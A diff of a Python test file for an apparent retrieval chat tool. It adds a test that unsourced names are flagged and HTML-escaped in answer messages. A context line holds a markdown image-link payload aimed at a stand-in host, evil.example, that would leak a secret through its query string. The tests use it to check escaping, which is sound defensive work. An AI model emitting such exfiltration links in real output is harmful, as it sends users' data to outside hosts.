@@ -82,6 +82,21 @@ def test_replayed_traces_cannot_inject_markup_through_titles_or_numbers(tmp_path
         load_trace(jsonl)
 
 
+def test_the_chat_answer_says_which_names_no_source_mentions_escaped():
+    tracer = Tracer("oner")
+    state = RunState()
+    state.add(tracer.event(AnswerPayload(answer="Leonardo da Vinci [1].", citations=[1], passages=[passage(1)],
+                                         unsourced=["Leonardo", "Vinci", EVIL]), "Answer", id="a1"))
+    message = answer_message(state, "run")
+    assert 'class="notice notice-warning"' in message
+    assert "Not in the sources: “Leonardo”, “Vinci”" in unescape(message)
+    assert "<script>" not in message and "<img" not in message
+    plain_state = RunState()
+    plain_state.add(tracer.event(AnswerPayload(answer="Doc 1 [1].", citations=[1], passages=[passage(1)]),
+                                 "Answer", id="a1"))
+    assert "notice-warning" not in answer_message(plain_state, "run")
+
+
 def test_markdown_in_model_and_passage_text_is_shown_literally():
     sneaky = "![x](https://evil.example/?q=secret) [link](https://evil.example) *bold* `code` # head"
     assert "![" not in md_safe(sneaky) and "](" not in md_safe(sneaky) and "*bold*" not in md_safe(sneaky)
